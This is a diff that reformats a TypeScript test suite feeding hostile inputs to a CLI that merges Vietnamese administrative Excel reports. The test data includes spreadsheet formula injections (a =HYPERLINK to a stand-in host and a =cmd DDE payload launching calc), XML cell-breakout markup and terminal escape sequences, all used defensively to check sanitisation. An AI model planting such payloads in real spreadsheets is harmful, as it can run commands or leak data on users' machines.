@@ -6,7 +6,18 @@ import { readdirSync, readFileSync } from "node:fs";
 import path from "node:path";
 import { builtInRegistry } from "../src/templates";
 import { readOwnWorkbook } from "../src/xlsx/ownWorkbook";
-import { cellOf, expectValidXlsx, GOOD_VALUES, HostileCase, REPORT_DATE, report, runCase, setCells, Typed, xmlText } from "./support/hostile";
+import {
+  cellOf,
+  expectValidXlsx,
+  GOOD_VALUES,
+  HostileCase,
+  REPORT_DATE,
+  report,
+  runCase,
+  setCells,
+  Typed,
+  xmlText,
+} from "./support/hostile";
 
 const MERGE = ["merge", "nhan", "--out", "tong-hop.xlsx", "--unit", "UBND tỉnh"];
 const UNIT = "UBND huyện Tốt";
@@ -50,7 +61,8 @@ function mergeValue(name: string, code: string, value: Typed, check?: (total: un
 /** Every field of a CSV (RFC 4180 quoting). */
 function csvFields(text: string): string[] {
   const fields: string[] = [];
-  for (const m of text.replace(/^\ufeff/, "").matchAll(/"((?:[^"]|"")*)"|([^,\r\n]*)/g)) if (m[0] !== "" || m.index === 0) fields.push(m[1] !== undefined ? m[1].replace(/""/g, '"') : m[2]);
+  for (const m of text.replace(/^\ufeff/, "").matchAll(/"((?:[^"]|"")*)"|([^,\r\n]*)/g))
+    if (m[0] !== "" || m.index === 0) fields.push(m[1] !== undefined ? m[1].replace(/""/g, '"') : m[2]);
   return fields;
 }
 
@@ -130,14 +142,12 @@ const CASES: HostileCase[] = [
   checkValue("40.000 characters in a count", COUNT, "9".repeat(40_000), 1, {
     after: (_, run) => expect(run.stdout.length).toBeLessThan(20_000),
   }),
-  ...["1e308", "-1e10", "NaN"].map(
-    (serial): HostileCase => ({
-      name: `check: a report date serial of ${serial} (CCHC_NgayBaoCao)`,
-      files: () => ({ "x.xlsx": setCells(report(UNIT, GOOD_VALUES as Record<string, Typed>), { [REPORT_DATE()]: { v: serial } }) }),
-      argv: ["check", "x.xlsx"],
-      code: 0,
-    }),
-  ),
+  ...["1e308", "-1e10", "NaN"].map((serial): HostileCase => ({
+    name: `check: a report date serial of ${serial} (CCHC_NgayBaoCao)`,
+    files: () => ({ "x.xlsx": setCells(report(UNIT, GOOD_VALUES as Record<string, Typed>), { [REPORT_DATE()]: { v: serial } }) }),
+    argv: ["check", "x.xlsx"],
+    code: 0,
+  })),
   mergeValue("1e308 in a count of two units (never summed to Infinity)", COUNT, 1e308, (total) => expect(total).toBeNull()),
   mergeValue("Infinity in the XML of two units", COUNT, { v: "1e999" }, (total) => expect(total).toBeNull()),
   mergeValue("999.999.999.999.999 (15 digits) in two units: summed exactly", COUNT, 999_999_999_999_999, (total) =>
@@ -147,8 +157,8 @@ const CASES: HostileCase[] = [
   {
     name: "merge: weighted rates whose weights are all 0: the mean stays within 0–100",
     files: () => ({
-      "nhan/a.xlsx": report("UBND huyện A", { ...GOOD_VALUES, "3.1.3.a": 0, "3.1.3.b": 0, "3.1.3.c": 0, [RATE]: 100 } as Record<string, Typed>),
-      "nhan/b.xlsx": report("UBND huyện B", { ...GOOD_VALUES, "3.1.3.a": 0, "3.1.3.b": 0, "3.1.3.c": 0, [RATE]: 100 } as Record<string, Typed>),
+      "nhan/a.xlsx": report("UBND huyện A", { ...GOOD_VALUES, "3.1.3.a": 0, "3.1.3.b": 0, "3.1.3.c": 0, [RATE]: 100 }),
+      "nhan/b.xlsx": report("UBND huyện B", { ...GOOD_VALUES, "3.1.3.a": 0, "3.1.3.b": 0, "3.1.3.c": 0, [RATE]: 100 }),
     }),
     argv: MERGE,
     code: 0,
@@ -159,7 +169,9 @@ const CASES: HostileCase[] = [
   },
   {
     name: "export --json: NaN, Infinity and 1e308 in cells give valid JSON with finite numbers",
-    files: () => ({ "x.xlsx": report(UNIT, { ...GOOD_VALUES, [COUNT]: { v: "NaN" }, "1.1.2": { v: "1e999" }, "1.1.3": 1e308 } as Record<string, Typed>) }),
+    files: () => ({
+      "x.xlsx": report(UNIT, { ...GOOD_VALUES, [COUNT]: { v: "NaN" }, "1.1.2": { v: "1e999" }, "1.1.3": 1e308 }),
+    }),
     argv: ["export", "x.xlsx", "--json"],
     code: 0,
     after: (_, run) => {
@@ -193,7 +205,7 @@ const CASES: HostileCase[] = [
     after: (_, run) => expect(run.stdout + run.stderr).not.toMatch(/[\u001b\u0007]/),
   },
   mergeText("a unit name =HYPERLINK(…) and an answer =cmd|…", '=HYPERLINK("http://x.example/?"&A1,"Sở Y tế")', "=cmd|' /C calc'!A0"),
-  mergeText("a unit name and an answer with XML markup", '<b>Sở "Y" & tế</b> ]]>', "</t></is></c><c r=\"A1\"><f>cmd</f></c>"),
+  mergeText("a unit name and an answer with XML markup", '<b>Sở "Y" & tế</b> ]]>', '</t></is></c><c r="A1"><f>cmd</f></c>'),
   mergeText("control characters in the unit name and the answer", "Sở\u0001 Y\u0008 tế\u000b\u001f\u007f", "Đã\u0000 kết\u0003 nối"),
   mergeText("noncharacters and a lone surrogate in the unit name", "Sở Y tế \ufffe\uffff\ud800", "Đã kết nối \udfff"),
   mergeText("escape sequences in the unit name", "\u001b[2J\u009b31mSở Y tế", "\u001b]0;x\u0007Đã kết nối"),
